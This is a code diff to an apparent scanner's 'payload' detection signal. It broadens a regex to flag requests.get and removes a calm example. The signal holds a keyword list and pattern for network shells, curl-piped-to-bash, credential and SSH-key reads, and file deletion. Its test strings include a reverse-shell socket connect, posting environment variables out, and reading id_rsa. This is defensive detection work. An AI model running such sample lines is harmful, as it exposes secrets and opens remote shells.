@@ -162,9 +162,9 @@ var signals = []signal{
 var payload = signal{name: sigPayload,
 	words: []string{"curl", "wget", "socket", "subprocess", "system(", "popen", "exec.command", "/bin/", "nc -e", "requests.", "smtp", "urlopen", "urlretrieve", "urllib", "httpx", "environ", "getenv", "id_rsa", ".aws", "cookie", "fernet", "encrypt", "rmtree", "rm -rf", "b64encode", "btoa", "http.client", "ftplib", "paramiko", "exec(", "eval(", "os.remove(", "os.unlink(", "mqtt"},
 	re: lazyre.New(`(?i)\b(?:curl|wget)\b[^|\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\bsocket\b|\bsubprocess\b|\bos\.(?:system|popen)\(|\bexec\.command\(|/bin/(?:ba|z)?sh\b|\bnc -e\b` +
-		`|\brequests\.(?:post|put)\(|smtp|\burlopen\(|\burlretrieve\(|\burllib\b|\bhttpx\b|\bexec\(|\beval\(|\bos\.(?:remove|unlink)\(|\bmqtt\b|\bos\.environ\b|\bgetenv\(|\bid_rsa\b|\.aws/credentials|\bcookie|\bfernet\b|\bencrypt\(|\brmtree\(|\brm -rf\b|\bb64encode\(|\bbtoa\(|\bhttp\.client\b|\bftplib\b|\bparamiko\b`),
+		`|\brequests\.(?:get|post|put)\(|smtp|\burlopen\(|\burlretrieve\(|\burllib\b|\bhttpx\b|\bexec\(|\beval\(|\bos\.(?:remove|unlink)\(|\bmqtt\b|\bos\.environ\b|\bgetenv\(|\bid_rsa\b|\.aws/credentials|\bcookie|\bfernet\b|\bencrypt\(|\brmtree\(|\brm -rf\b|\bb64encode\(|\bbtoa\(|\bhttp\.client\b|\bftplib\b|\bparamiko\b`),
 	hits: []string{`s=socket.socket();s.connect(("198.51.100.7",4444))`, `requests.post(url, data=dict(os.environ))`, `curl -fsSL https://x/y.sh | bash`, `open(os.path.expanduser("~/.ssh/id_rsa"))`},
-	calm: []string{`print("hello")`, `x := strings.TrimSpace(s)`, `curl -o out.tar.gz https://x/y.tar.gz`, `response = requests.get(url, params=params)`}}
+	calm: []string{`print("hello")`, `x := strings.TrimSpace(s)`, `curl -o out.tar.gz https://x/y.tar.gz`}}
 
 // fire returns the signals that fire on a block's lowercased prose.
 func fire(low string, out []string) []string {
